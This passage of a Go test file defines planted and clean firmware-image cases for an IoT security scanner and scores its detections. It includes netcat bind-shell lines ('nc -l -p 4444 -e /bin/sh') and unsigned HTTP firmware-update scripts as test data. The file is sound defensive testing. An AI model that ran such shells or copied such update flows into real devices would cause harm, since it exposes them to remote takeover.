		{family: svcs, name: "hostapd open", want: "surface.open-wifi", files: inspecttest.Files{"etc/hostapd.conf": text("interface=wlan0\nssid=Setup\nchannel=6\n")}},

		// ---- services: clean
		{family: svcs, name: "dropbear from rcS with ordinary flags", needs: "gcc", files: inspecttest.Files{
			"etc/init.d/rcS": script("#!/bin/sh\nmount -a\n/usr/sbin/dropbear -R -p 22 -K 300 -P /var/run/dropbear.pid\n"), "usr/sbin/dropbear": {Data: m.sshDaemon, Mode: 0o755}}},
		{family: svcs, name: "dropbear key-only", needs: "gcc", files: inspecttest.Files{
			"etc/init.d/dropbear": script("#!/bin/sh\nstart-stop-daemon -S -x /usr/sbin/dropbear -- -F -w -s -p 22\n"), "usr/sbin/dropbear": {Data: m.sshDaemon, Mode: 0o755}}},
		{family: svcs, name: "OpenWrt procd dropbear", files: inspecttest.Files{
			"etc/init.d/dropbear": script("#!/bin/sh /etc/rc.common\nSTART=19\nUSE_PROCD=1\nPROG=/usr/sbin/dropbear\nstart_service() {\n\tprocd_open_instance\n\tprocd_set_param command \"$PROG\" -F -P /var/run/dropbear.1.pid -p 22\n\tprocd_close_instance\n}\n"),
			"etc/config/dropbear": text("config dropbear\n\toption PasswordAuth 'off'\n\toption RootPasswordAuth 'off'\n\toption Port '22'\n")}},
		{family: svcs, name: "sshd from systemd, hardened config", files: inspecttest.Files{
			"lib/systemd/system/ssh.service": text("[Service]\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n"),
			"etc/ssh/sshd_config":            text("#PermitRootLogin yes\nPermitRootLogin prohibit-password\nPasswordAuthentication no\n#PermitEmptyPasswords yes\n")}},
		{family: svcs, name: "web server with CGI from rcS", needs: "gcc", files: inspecttest.Files{
			"etc/init.d/rcS": script("#!/bin/sh\n/usr/sbin/lighttpd -f /etc/lighttpd/lighttpd.conf\n"), "usr/sbin/lighttpd": {Data: m.webServer, Mode: 0o755}}},
		{family: svcs, name: "busybox daemons from rcS", needs: "gcc", files: inspecttest.Files{
			"etc/init.d/rcS": script("#!/bin/sh\n/bin/busybox syslogd -C16\n/bin/busybox klogd\nbusybox crond -c /etc/crontabs\n"), "bin/busybox": {Data: m.multiCall, Mode: 0o755}}},
		{family: svcs, name: "telnetd stopped or commented", files: inspecttest.Files{
			"etc/init.d/rcS": script("#!/bin/sh\nkillall telnetd\n#telnetd -l /bin/sh\n# nc -l -p 4444 -e /bin/sh\n[ -x /usr/sbin/telnetd ] || echo no telnet\n")}},
		{family: svcs, name: "nc as a client", files: inspecttest.Files{
			"etc/init.d/healthcheck": script("#!/bin/sh\necho ping | nc -w 2 127.0.0.1 80 >/dev/null || logger web down\nnc -z 10.0.0.1 53\n")}},
		{family: svcs, name: "nc listening for a file", files: inspecttest.Files{
			"etc/init.d/recovery": script("#!/bin/sh\nnc -l -p 5000 > /tmp/recovery.bin\n")}},
		{family: svcs, name: "socat port forward", files: inspecttest.Files{
			"etc/init.d/forward": script("#!/bin/sh\nsocat TCP-LISTEN:8080,fork TCP:127.0.0.1:80 &\n")}},
		{family: svcs, name: "bash with /dev/tcp health probe", files: inspecttest.Files{
			"etc/init.d/probe": script("#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/80 && echo up\n")}},
		{family: svcs, name: "console login with getty", files: inspecttest.Files{
			"etc/inittab": text("::sysinit:/etc/init.d/rcS\nttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n::askfirst:/bin/login\n")}},
		{family: svcs, name: "snmpd unique community", files: inspecttest.Files{"etc/snmp/snmpd.conf": text("rocommunity Xk3v9qLm 10.0.0.0/8\n#rocommunity public\n")}},
		{family: svcs, name: "miniupnpd secure", files: inspecttest.Files{"etc/miniupnpd.conf": text("ext_ifname=eth0\nsecure_mode=yes\n#secure_mode=no\n")}},
		{family: svcs, name: "UCI WPA2 and client-mode", files: inspecttest.Files{"etc/config/wireless": text(
			"config wifi-iface 'ap'\n\toption mode 'ap'\n\toption ssid 'Home'\n\toption encryption 'psk2'\n" +
				"config wifi-iface 'sta'\n\toption mode 'sta'\n\toption encryption 'none'\n" +
				"config wifi-iface 'guest'\n\toption mode 'ap'\n\toption encryption 'none'\n\toption disabled '1'\n")}},
		{family: svcs, name: "hostapd WPA2", files: inspecttest.Files{"etc/hostapd.conf": text("interface=wlan0\nssid=Home\nwpa=2\nwpa_key_mgmt=WPA-PSK\nwpa_passphrase=$WPA_PSK\n")}},
		{family: svcs, name: "documented bind shell and packaged examples", files: inspecttest.Files{
			"usr/share/doc/netcat/examples/etc/init.d/bindshell": script("#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n"),
			"usr/share/doc/netcat/README":                        text("nc -l -p 4444 -e /bin/sh binds a shell\n")}},
		{family: svcs, name: "web server and ntp", files: inspecttest.Files{
			"etc/init.d/uhttpd":  script("#!/bin/sh\n/usr/sbin/uhttpd -f -h /www -p 0.0.0.0:80 -s 0.0.0.0:443\n"),
			"etc/init.d/sysntpd": script("#!/bin/sh\n/usr/sbin/ntpd -n -N -S /usr/sbin/ntpd-hotplug -p 0.openwrt.pool.ntp.org\n")}},

		// ---- updates: planted
		{family: upd, name: "sysupgrade without signatures", want: "update.unverified", files: inspecttest.Files{
			"sbin/sysupgrade": script("#!/bin/sh\n. /lib/upgrade/common.sh\nv \"Image check failed\"\n"), "lib/upgrade/common.sh": text("get_image() { cat \"$1\"; }\n")}},
		{family: upd, name: "vendor script over HTTP, unverified", want: "update.unverified", files: inspecttest.Files{
			"usr/sbin/fw_update.sh": script("#!/bin/sh\nwget -O /tmp/fw.bin http://update.vendor.test/fw/latest.bin\nmtd write /tmp/fw.bin firmware\n")}},
		{family: upd, name: "vendor script over HTTP, plain URL", want: "update.plain-http", files: inspecttest.Files{
			"usr/sbin/fw_update.sh": script("#!/bin/sh\nwget -O /tmp/fw.bin http://update.vendor.test/fw/latest.bin\nmtd write /tmp/fw.bin firmware\n")}},
		{family: upd, name: "vendor script over HTTPS, unverified", want: "update.unverified", files: inspecttest.Files{
			"usr/bin/ota_update": script("#!/bin/sh\ncurl -fsSo /tmp/fw.bin https://update.vendor.test/fw/latest.bin && mtd write /tmp/fw.bin firmware\n")}},
		{family: upd, name: "signed update over HTTP", want: "update.plain-http", files: inspecttest.Files{
			"usr/sbin/firmware-upgrade.sh": script("#!/bin/sh\nwget -O /tmp/fw.bin http://update.vendor.test/fw.bin\nwget -O /tmp/fw.sig http://update.vendor.test/fw.sig\nopenssl dgst -sha256 -verify /etc/fw.pub -signature /tmp/fw.sig /tmp/fw.bin || exit 1\nsysupgrade /tmp/fw.bin\n")}},
		{family: upd, name: "opkg without signature check", want: "update.unverified", files: inspecttest.Files{
			"bin/opkg": {Data: []byte("\x7fELF opkg"), Mode: 0o755}, "etc/opkg.conf": text("dest root /\nlists_dir ext /var/opkg-lists\n")}},
		{family: upd, name: "opkg feed over HTTP", want: "update.plain-http", files: inspecttest.Files{
			"bin/opkg": {Data: []byte("\x7fELF opkg"), Mode: 0o755}, "etc/opkg.conf": text("option check_signature\n"),
			"etc/opkg/keys/b5043e70f9a75cde": text("untrusted comment: public key\nRWS1BD5w+adc3j2H\n"),
			"etc/opkg/distfeeds.conf":        text("src/gz core http://downloads.vendor.test/packages/core\n")}},
		{family: upd, name: "SWUpdate without key", want: "update.unverified", files: inspecttest.Files{
			"usr/bin/swupdate": {Data: []byte("\x7fELF swupdate"), Mode: 0o755}, "etc/swupdate.cfg": text("globals: { verbose = true; };\n")}},
		{family: upd, name: "RAUC without keyring", want: "update.unverified", files: inspecttest.Files{
			"usr/bin/rauc": {Data: []byte("\x7fELF rauc"), Mode: 0o755}, "etc/rauc/system.conf": text("[system]\ncompatible=vendor-board\nbootloader=uboot\n")}},
		{family: upd, name: "Mender without verify key", want: "update.unverified", files: inspecttest.Files{
			"usr/bin/mender": {Data: []byte("\x7fELF mender"), Mode: 0o755}, "etc/mender/mender.conf": text("{\"ServerURL\": \"https://hosted.mender.io\"}\n")}},
		{family: upd, name: "upgrade CGI unverified", want: "update.unverified", files: inspecttest.Files{
			"www/cgi-bin/upgrade.cgi": script("#!/bin/sh\ncat > /tmp/fw.bin\nmtd -r write /tmp/fw.bin firmware\n")}},
		{family: upd, name: "no update mechanism", want: "update.none", files: inspecttest.Files{
			"etc/banner": text("Welcome\n")}},

		// ---- updates: clean
		{family: upd, name: "sysupgrade whose caller verifies with usign", files: inspecttest.Files{
			"sbin/sysupgrade":       script("#!/bin/sh\n. /lib/upgrade/common.sh\n"),
			"lib/upgrade/common.sh": text("get_image() { cat \"$1\"; }\n"),
			"usr/libexec/fw-apply":  script("#!/bin/sh\nIMG=/tmp/firmware.bin\nusign -q -V -m \"$IMG\" -x \"$IMG.sig\" -P /etc/usign/keys || exit 1\nexec /sbin/sysupgrade \"$IMG\"\n"),
			"etc/usign/keys/abcd":   text("untrusted comment: public key abcd\nRWS1BD5w+adc3j2H\n")}},
		{family: upd, name: "sysupgrade with REQUIRE_IMAGE_SIGNATURE", files: inspecttest.Files{
			"sbin/sysupgrade":       script("#!/bin/sh\n. /lib/upgrade/common.sh\n"),
			"lib/upgrade/fwtool.sh": text("fwtool_check_signature() {\n\t[ \"$REQUIRE_IMAGE_SIGNATURE\" = 1 ] || return 0\n\tusign -V -q -m /tmp/sysupgrade.fwtool -P /etc/opkg/keys\n}\n")}},
		{family: upd, name: "opkg with signatures over HTTPS", files: inspecttest.Files{
			"bin/opkg": {Data: []byte("\x7fELF opkg"), Mode: 0o755}, "etc/opkg.conf": text("dest root /\noption check_signature\n"),
			"etc/opkg/keys/b5043e70f9a75cde": text("untrusted comment: public key\nRWS1BD5w+adc3j2H\n"),
			"etc/opkg/distfeeds.conf":        text("src/gz core https://downloads.vendor.test/packages/core\n# src/gz old http://old.vendor.test/packages\n")}},
		{family: upd, name: "SWUpdate with key", files: inspecttest.Files{
			"usr/bin/swupdate": {Data: []byte("\x7fELF swupdate"), Mode: 0o755}, "etc/swupdate.cfg": text("globals: { public-key-file = \"/etc/swupdate/public.pem\"; };\n")}},
		{family: upd, name: "RAUC with keyring", files: inspecttest.Files{
			"usr/bin/rauc": {Data: []byte("\x7fELF rauc"), Mode: 0o755}, "etc/rauc/system.conf": text("[system]\ncompatible=vendor-board\n[keyring]\npath=/etc/rauc/ca.cert.pem\n")}},
		{family: upd, name: "Mender with verify key", files: inspecttest.Files{
			"usr/bin/mender": {Data: []byte("\x7fELF mender"), Mode: 0o755}, "etc/mender/mender.conf": text("{\"ServerURL\": \"https://hosted.mender.io\", \"ArtifactVerifyKey\": \"/etc/mender/artifact-verify-key.pem\"}\n")}},
		{family: upd, name: "vendor script over HTTPS, verified", files: inspecttest.Files{
			"usr/sbin/fw_update.sh": script("#!/bin/sh\ncurl -fsSo /tmp/fw.bin https://update.vendor.test/fw.bin\ncurl -fsSo /tmp/fw.sig https://update.vendor.test/fw.sig\nopenssl dgst -sha256 -verify /etc/fw.pub -signature /tmp/fw.sig /tmp/fw.bin || exit 1\nmtd write /tmp/fw.bin firmware\n")}},
		{family: upd, name: "update documentation", files: inspecttest.Files{
			"sbin/sysupgrade":                     script("#!/bin/sh\n. /lib/upgrade/common.sh\n"),
			"lib/upgrade/common.sh":               text("REQUIRE_IMAGE_SIGNATURE=1\n"),
			"usr/share/doc/fwupdate/fw_update.sh": text("#!/bin/sh\nwget http://update.example.test/fw.bin && mtd write fw.bin firmware\n")}},

		// ---- data protection: planted
		{family: data, name: "world-writable config", want: "data.world-writable", files: inspecttest.Files{"etc/config/network": {Data: []byte("config interface 'lan'\n"), Mode: 0o666}}},
		{family: data, name: "shadow readable by all", want: "data.secret-readable", files: inspecttest.Files{"etc/shadow": text("root:!:19000::::::\n")}},
		{family: data, name: "SUID busybox", want: "data.suid", files: inspecttest.Files{"bin/busybox": {Data: []byte("\x7fELF busybox"), Mode: 0o755 | fs.ModeSetuid}}},
		{family: data, name: "customer database", want: "data.personal-data", files: inspecttest.Files{"var/lib/app/customers.csv": text("email,name\nana@mail.test,Ana\nbo@mail.test,Bo\ncy@mail.test,Cy\n")}},
		{family: data, name: "SQLite schema with personal columns", want: "data.personal-data", files: inspecttest.Files{"var/lib/app/users.sql": text("CREATE TABLE users (id INTEGER, email TEXT, phone TEXT, birth_date TEXT);\nINSERT INTO users VALUES (1, 'ana@mail.test', '+100', '1990-01-01');\n")}},
		// ---- data protection: clean
		{family: data, name: "sticky tmp and private shadow", files: inspecttest.Files{
			"tmp": inspecttest.Dir(0o777 | fs.ModeSticky), "etc/shadow": secret("root:!:19000::::::\n"), "etc/passwd": text(passwdRoot)}},
		{family: data, name: "maintainer addresses in docs", files: inspecttest.Files{
			"usr/share/doc/app/AUTHORS.json": text("[\"ana@mail.test\", \"bo@mail.test\", \"cy@mail.test\"]\n")}},
		{family: data, name: "empty schema", files: inspecttest.Files{
			"usr/share/app/schema.sql": text("CREATE TABLE settings (key TEXT, value TEXT);\n")}},

		// ---- network: planted
		{family: netw, name: "cloud endpoint over HTTP", want: "network.cleartext-endpoint", files: inspecttest.Files{"etc/cloud.conf": text("server=http://api.vendor-cloud.test/v1\n")}},
		{family: netw, name: "MQTT clear text", want: "network.cleartext-endpoint", files: inspecttest.Files{"etc/app/mqtt.json": text("{\"broker\": \"mqtt://broker.vendor-cloud.test:1883\"}\n")}},
		{family: netw, name: "HTTP URL in a program", want: "network.cleartext-endpoint", files: inspecttest.Files{"usr/bin/agent": {Data: []byte("\x7fELF\x00\x00http://telemetry.vendor-cloud.test/ingest\x00"), Mode: 0o755}}},
		{family: netw, name: "TFTP provisioning", want: "network.cleartext-endpoint", files: inspecttest.Files{"etc/provision.cfg": text("url=tftp://prov.vendor-cloud.test/cfg\n")}},
		{family: netw, name: "websocket in clear", want: "network.cleartext-endpoint", files: inspecttest.Files{"www/js/app.js": text("var ws = new WebSocket('ws://push.vendor-cloud.test/live');\n")}},
		// ---- network: clean
		{family: netw, name: "HTTPS endpoints", files: inspecttest.Files{"etc/cloud.conf": text("server=https://api.vendor-cloud.test/v1\nmqtt=mqtts://broker.vendor-cloud.test:8883\n")}},
		{family: netw, name: "loopback and namespaces", files: inspecttest.Files{
			"etc/app.conf": text("backend=http://127.0.0.1:8080/\nui=http://localhost/\n"), "www/index.html": text("<html xmlns=\"http://www.w3.org/1999/xhtml\"></html>\n")}},
		{family: netw, name: "commented-out endpoint", files: inspecttest.Files{"etc/cloud.conf": text("# server=http://old.vendor-cloud.test/v1\nserver=https://api.vendor-cloud.test/v1\n")}},
		{family: netw, name: "documentation and test fixtures", files: inspecttest.Files{
			"usr/share/doc/app/README":                          text("See http://docs.vendor-cloud.test/\n"),
			"usr/lib/node_modules/request/test/fixtures/a.json": text("{\"url\": \"http://fixture.vendor-cloud.test/\"}\n")}},
	}
	cs = append(cs, moreCases(t, m, caPEM, leafPEM)...)
	cs = append(cs, debianCases(t)...)
	return cs
}

// debianCases put real programs of Debian packages into cases, when
// IOTSEC_DEB_CACHE names a directory holding the packages
// (testdata/fetch-debs.sh fetches them); otherwise none.
func debianCases(t *testing.T) []corpusCase {
	dir := os.Getenv("IOTSEC_DEB_CACHE")
	if dir == "" {
		t.Log("IOTSEC_DEB_CACHE not set: the cases with real Debian programs are skipped (testdata/fetch-debs.sh fetches them)")
		return nil
	}
	if _, err := exec.LookPath("dpkg-deb"); err != nil {
		t.Log("dpkg-deb not installed: the cases with real Debian programs are skipped")
		return nil
	}
	dropbear := debFile(t, dir, "dropbear-bin_", "./usr/sbin/dropbear")
	busybox := debFile(t, dir, "busybox_", "./bin/busybox")
	var out []corpusCase
	if dropbear != nil {
		out = append(out,
			corpusCase{family: "services", name: "Debian dropbear from rcS with ordinary flags", files: inspecttest.Files{
				"etc/init.d/rcS": script("#!/bin/sh\n/usr/sbin/dropbear -R -p 22 -K 300\n"), "usr/sbin/dropbear": {Data: dropbear, Mode: 0o755}}},
			corpusCase{family: "services", name: "Debian dropbear from start-stop-daemon", files: inspecttest.Files{
				"etc/init.d/dropbear": script("#!/bin/sh\nstart-stop-daemon -S -p /var/run/dropbear.pid -x /usr/sbin/dropbear -- -p 22 -W 65536\n"),
				"usr/sbin/dropbear":   {Data: dropbear, Mode: 0o755}}})
	}
	if busybox != nil {
		out = append(out,
			corpusCase{family: "services", name: "Debian BusyBox daemons from rcS", files: inspecttest.Files{
				"etc/init.d/rcS": script("#!/bin/sh\n/bin/busybox syslogd -C16\n/bin/busybox crond\n/bin/busybox httpd -h /www\n"), "bin/busybox": {Data: busybox, Mode: 0o755}}},
			corpusCase{family: "services", name: "Debian BusyBox nc bind shell", want: "surface.bind-shell", files: inspecttest.Files{
				"etc/init.d/rcS": script("#!/bin/sh\n/bin/busybox nc -l -p 4444 -e /bin/sh &\n"), "bin/busybox": {Data: busybox, Mode: 0o755}}})
	}
	return out
}

// debFile reads one file out of the first package in dir whose name
// starts with prefix, or nil (with a log line) when there is none.
func debFile(t *testing.T, dir, prefix, name string) []byte {
	t.Helper()
	ms, _ := filepath.Glob(filepath.Join(dir, prefix+"*.deb"))
	if len(ms) == 0 {
		t.Logf("no %s*.deb in %s: its cases are skipped", prefix, dir)
		return nil
	}
	tarball, err := exec.Command("dpkg-deb", "--fsys-tarfile", ms[0]).Output()
	if err != nil {
		t.Fatalf("dpkg-deb %s: %v", ms[0], err)
	}
	tr := tar.NewReader(bytes.NewReader(tarball))
	for {
		h, err := tr.Next()
		if err != nil {
			t.Fatalf("%s holds no %s (%v)", ms[0], name, err)
		}
		if h.Name == name {
			b, err := io.ReadAll(tr)
			if err != nil {
				t.Fatal(err)
			}
			return b
		}
	}
}

// moreCases are further clean counterparts (the shapes that make checks
// cry wolf on real images: web UI strings, code that handles passwords,
// key material that is public, daemons and clients that look like
// servers) and a few more planted cases.
func moreCases(t *testing.T, m *material, caPEM, leafPEM []byte) []corpusCase {
	const (
		creds = "credentials"
		certs = "certificates"
		svcs  = "services"
		upd   = "updates"
		data  = "data-protection"
		netw  = "network"
	)
	csr := func() string {
		der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: "device"}}, m.ec)
		if err != nil {
			t.Fatal(err)
		}
		return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}))
	}
	return []corpusCase{
		// credentials: clean
		{family: creds, name: "passwd alone, shadowed", files: inspecttest.Files{"etc/passwd": text(passwdRoot), "etc/group": text("root:x:0:\nwheel:x:10:root\n")}},
		{family: creds, name: "hostapd key management", files: inspecttest.Files{"etc/wpa_supplicant.conf": text("network={\n\tssid=\"Home\"\n\tkey_mgmt=WPA-PSK\n\tpsk=$PSK\n}\n")}},
		{family: creds, name: "sshd HostKey lines", files: inspecttest.Files{"etc/ssh/sshd_config": text("HostKey /etc/ssh/ssh_host_ed25519_key\nAuthorizedKeysFile .ssh/authorized_keys\nPasswordAuthentication no\n")}},
		{family: creds, name: "Lua web handler", files: inspecttest.Files{"usr/lib/lua/luci/controller/admin.lua": text("local password = luci.http.formvalue(\"password\")\nif password == nil then return end\n")}},
		{family: creds, name: "PHP form handler", files: inspecttest.Files{"www/login.php": text("<?php\n$password = $_POST['password'];\n$hash = password_hash($password, PASSWORD_DEFAULT);\n")}},
		{family: creds, name: "JavaScript validation", files: inspecttest.Files{"www/js/login.js": text("if (password.length < 8) { alert('too short'); }\nvar token = getToken();\n")}},
		{family: creds, name: "shell prompt for a password", files: inspecttest.Files{"usr/sbin/firstboot-pw": script("#!/bin/sh\nPASSWORD=\"\"\nread -s -p \"Password: \" PASSWORD\n")}},
		{family: creds, name: "web UI translations", files: inspecttest.Files{"www/i18n/en.json": text("{\"password\": \"Password\", \"passwordHint\": \"Enter your new password\", \"secretLabel\": \"Shared secret for the VPN\"}\n")}},
		{family: creds, name: "settings that are no secrets", files: inspecttest.Files{"etc/app/app.conf": text("token_expiry=3600\npass_through=true\nsort_key=name\nmonkey=business\nkey_mgmt=WPA-PSK\n")}},
		{family: creds, name: "template placeholders", files: inspecttest.Files{"etc/app/secrets.tmpl.conf": text("secret_key_base=<%= ENV[\"SECRET\"] %>\napi_key={{ api_key }}\npassword=******\n")}},
		{family: creds, name: "JavaScript objects and Lua arguments", files: inspecttest.Files{
			"www/luci-static/resources/view/system/password.js": text("return { password: e.password, confirmPassword: confirmPwd, token: form.token };\n"),
			"usr/lib/lua/luci/passwd.lua":                       text("local pass = arg[1]\nlocal secret = nixio.getenv('SECRET')\n")}},
		{family: creds, name: "JSON password policy", files: inspecttest.Files{"etc/app/policy.json": text("{\"passwordPolicy\": {\"minLength\": 12, \"requireDigits\": true}}\n")}},
		{family: creds, name: "shadow with only system accounts", files: inspecttest.Files{
			"etc/passwd": text(passwdRoot + "ftp:*:55:55:ftp:/home/ftp:/bin/false\n"), "etc/shadow": secret("root:!:1::::::\ndaemon:*:1::::::\nftp:*:1::::::\nnobody:*:1::::::\n")}},

		// certificates: clean
		{family: certs, name: "hash-named root in /etc/ssl/certs", files: inspecttest.Files{"etc/ssl/certs/5ad8a5d6.0": text(string(caPEM))}},
		{family: certs, name: "certificate request", files: inspecttest.Files{"etc/app/device.csr": text(csr())}},
		{family: certs, name: "DH parameters", files: inspecttest.Files{"etc/app/dhparam.pem": text("-----BEGIN DH PARAMETERS-----\nMIIBCAKCAQEA//////////+t+FRYortKmq/cViAnPTzx2LnFg84tNpWp4TZBFGQz\n-----END DH PARAMETERS-----\n")}},
		{family: certs, name: "leaf with its chain", files: inspecttest.Files{"etc/app/chain.pem": text(string(leafPEM))}},
		{family: certs, name: "OpenSSL configuration", files: inspecttest.Files{"etc/ssl/openssl.cnf": text("[ req ]\ndefault_bits = 2048\ndefault_md = sha256\n")}},
		{family: certs, name: "SSH authorized public key", files: inspecttest.Files{"etc/dropbear/authorized_keys": text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO5lrGpK3cL8YtQxxW5xJ7dJ8m0wVwU3k8Q0lY3b8H3x admin@vendor\n")}},

		// services: clean
		{family: svcs, name: "agetty on tty1", files: inspecttest.Files{"etc/inittab": text("tty1::respawn:/sbin/agetty --noclear tty1 linux\n::ctrlaltdel:/sbin/reboot\n")}},
		{family: svcs, name: "crond through sh -c", files: inspecttest.Files{"etc/init.d/cron": script("#!/bin/sh\nsh -c \"exec /usr/sbin/crond -c /etc/crontabs\" &\n")}},
		{family: svcs, name: "telnet client in a script", files: inspecttest.Files{"etc/init.d/modem": script("#!/bin/sh\n( sleep 1; echo AT ) | telnet 192.168.8.1 23 > /tmp/modem.log\n")}},
		{family: svcs, name: "dropbear without forwarding", files: inspecttest.Files{"etc/init.d/ssh": script("#!/bin/sh\n/usr/sbin/dropbear -j -k -p 22 -w\n")}},
		{family: svcs, name: "hostapd WPA3", files: inspecttest.Files{"etc/hostapd/hostapd.conf": text("interface=wlan0\nssid=Home\nwpa=2\nwpa_key_mgmt=SAE\nieee80211w=2\n")}},
		{family: svcs, name: "UCI SAE", files: inspecttest.Files{"etc/config/wireless": text("config wifi-iface 'ap'\n\toption mode 'ap'\n\toption encryption 'sae'\n")}},
		{family: svcs, name: "sshd without-password", files: inspecttest.Files{"etc/ssh/sshd_config": text("PermitRootLogin without-password\nPasswordAuthentication no\nMatch User backup\n\tPasswordAuthentication no\n")}},
		{family: svcs, name: "snmpd views only", files: inspecttest.Files{"etc/snmp/snmpd.conf": text("view systemonly included .1.3.6.1.2.1.1\nrouser monitor authPriv\n")}},
		{family: svcs, name: "socat serial bridge", files: inspecttest.Files{"etc/init.d/serial": script("#!/bin/sh\nsocat TCP-LISTEN:2000,fork,reuseaddr FILE:/dev/ttyS1,raw,echo=0 &\n")}},
		{family: svcs, name: "ncat TLS proxy", files: inspecttest.Files{"etc/init.d/proxy": script("#!/bin/sh\nncat --ssl -l 8443 --proxy-type http &\n")}},
		{family: svcs, name: "UCI upnpd disabled", files: inspecttest.Files{"etc/config/upnpd": text("config upnpd 'config'\n\toption enabled '0'\n\toption secure_mode '1'\n")}},

		// updates: clean
		{family: upd, name: "opkg check_signature 1", files: inspecttest.Files{
			"bin/opkg": {Data: []byte("\x7fELF opkg"), Mode: 0o755}, "etc/opkg.conf": text("option check_signature 1\n")}},
		{family: upd, name: "SWUpdate key in its directory", files: inspecttest.Files{
			"usr/bin/swupdate": {Data: []byte("\x7fELF swupdate"), Mode: 0o755}, "etc/swupdate/public.pem": text("-----BEGIN PUBLIC KEY-----\nMFkw\n-----END PUBLIC KEY-----\n"),
			"etc/init.d/swupdate": script("#!/bin/sh\nswupdate -k /etc/swupdate/public.pem -w \"-r /www\" &\n")}},
		{family: upd, name: "upgrade CGI verifies before sysupgrade", files: inspecttest.Files{
			"sbin/sysupgrade":         script("#!/bin/sh\n. /lib/upgrade/common.sh\n"),
			"www/cgi-bin/upgrade.cgi": script("#!/bin/sh\ncat > /tmp/fw.bin\nopenssl dgst -sha256 -verify /etc/fw.pub -signature /tmp/fw.sig /tmp/fw.bin || exit 1\nsysupgrade -n /tmp/fw.bin\n")}},
		{family: upd, name: "vendor updater with gpgv", files: inspecttest.Files{
			"usr/sbin/ota-update": script("#!/bin/sh\ncurl -fsSO https://update.vendor.test/fw.bin.gpg\ngpgv --keyring /etc/ota/trusted.gpg fw.bin.gpg fw.bin || exit 1\n")}},
		{family: upd, name: "fwupd", files: inspecttest.Files{"usr/bin/fwupdmgr": {Data: []byte("\x7fELF fwupdmgr"), Mode: 0o755}}},
		{family: upd, name: "update settings file", files: inspecttest.Files{
			"sbin/sysupgrade": script("#!/bin/sh\n. /lib/upgrade/common.sh\n"), "lib/upgrade/common.sh": text("REQUIRE_IMAGE_SIGNATURE=1\n"),
			"etc/fw_update.json": text("{\"channel\": \"stable\", \"url\": \"https://update.vendor.test/\"}\n")}},

		// data protection: clean
		{family: data, name: "sticky var/tmp", files: inspecttest.Files{"var/tmp": inspecttest.Dir(0o777 | fs.ModeSticky)}},
		{family: data, name: "SUID passwd (low)", files: inspecttest.Files{"usr/bin/passwd": {Data: []byte("\x7fELF passwd"), Mode: 0o755 | fs.ModeSetuid}}},
		{family: data, name: "support address", files: inspecttest.Files{"etc/app/about.json": text("{\"support\": \"support@vendor.test\", \"sales\": \"sales@vendor.test\"}\n")}},
		{family: data, name: "private key file 0600", files: inspecttest.Files{"etc/app/settings.dat": secret("x=1\n")}},

		// network: clean
		{family: netw, name: "HTTPS in a program", files: inspecttest.Files{"usr/bin/agent": {Data: []byte("\x7fELF\x00https://telemetry.vendor-cloud.test/ingest\x00"), Mode: 0o755}}},
		{family: netw, name: "licence texts", files: inspecttest.Files{"usr/share/app/LICENSE": text("See http://www.apache.org/licenses/LICENSE-2.0\n"), "usr/lib/app/COPYING": text("http://fsf.org/\n")}},
		{family: netw, name: "SOAP and UPnP namespaces", files: inspecttest.Files{"etc/upnp/desc.xml": text("<root xmlns=\"urn:schemas-upnp-org:device-1-0\"><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"/><a href=\"http://www.upnp.org/\"/></root>\n")}},
		{family: netw, name: "JavaScript comment", files: inspecttest.Files{"www/js/app.js": text("// old API: http://old.vendor-cloud.test/v0\nfetch('https://api.vendor-cloud.test/v1');\n")}},

		// a few more planted
		{family: netw, name: "FTP backup target", want: "network.cleartext-endpoint", files: inspecttest.Files{"etc/backup.conf": text("target=ftp://backup.vendor-cloud.test/incoming/\n")}},
		{family: netw, name: "CoAP in clear", want: "network.cleartext-endpoint", files: inspecttest.Files{"etc/app/coap.json": text("{\"server\": \"coap://iot.vendor-cloud.test:5683\"}\n")}},
		{family: netw, name: "MQTT over tcp:// 1883", want: "network.cleartext-endpoint", files: inspecttest.Files{"etc/app/broker.conf": text("address=tcp://broker.vendor-cloud.test:1883\n")}},
		{family: data, name: "world-writable init script", want: "data.world-writable", files: inspecttest.Files{"etc/init.d/app": {Data: []byte("#!/bin/sh\n"), Mode: 0o777}}},
		{family: data, name: "SQLite with personal columns", want: "data.personal-data", files: inspecttest.Files{
			"var/lib/app/state": {Data: []byte("SQLite format 3\x00\x10\x00CREATE TABLE owner (id INTEGER, email TEXT, phone TEXT, address TEXT)\x00")}}},
	}
}

// score is one family's tally.
type score struct {
	planted, found   int
	clean, alarms    int // alarms: clean cases with a medium or worse finding
	lowAlarms        int // clean cases with only low or info findings
	missed, falseHit []string
}

func TestCorpus(t *testing.T) {
	m := newMaterial(t)
	cases := corpus(t, m)
	scores := map[string]*score{}
	var families []string
	for _, c := range cases {
		s := scores[c.family]
		if s == nil {
			s = &score{}
			scores[c.family] = s
			families = append(families, c.family)
		}
		if c.needs == "gcc" && m.bindShell == nil {
			continue
		}
		rep, err := inspect.Run(t.Context(), inspecttest.New().WithFiles(c.files).FS(t), inspect.Default())
		if err != nil {
			t.Fatalf("%s/%s: %v", c.family, c.name, err)
		}
		ours := func(f check.Finding) bool {
			if f.Path == "." {
				return true
			}
			for p := range c.files {
				if f.Path == p || strings.HasPrefix(f.Path, p+"/") {
					return true
				}
			}
			return false
		}
		if c.want != "" {
			s.planted++
			hit := slices.ContainsFunc(rep.Findings, func(f check.Finding) bool { return f.Rule == c.want && ours(f) })
			if hit {
				s.found++
			} else {
				s.missed = append(s.missed, fmt.Sprintf("%s (want %s; got %s)", c.name, c.want, briefs(rep.Findings, ours)))
			}
			continue
		}
		s.clean++
		var bad, low []check.Finding
		for _, f := range rep.Findings {
			if !ours(f) || f.Path == "." {
				continue
			}
			if f.Severity.Rank() >= check.Medium.Rank() {
				bad = append(bad, f)
			} else if f.Severity.Rank() >= check.Low.Rank() {
				low = append(low, f)
			}
		}
		switch {
		case len(bad) > 0:
			s.alarms++
			s.falseHit = append(s.falseHit, fmt.Sprintf("%s: %s", c.name, briefs(bad, nil)))
		case len(low) > 0:
			s.lowAlarms++
		}
	}
	var b strings.Builder
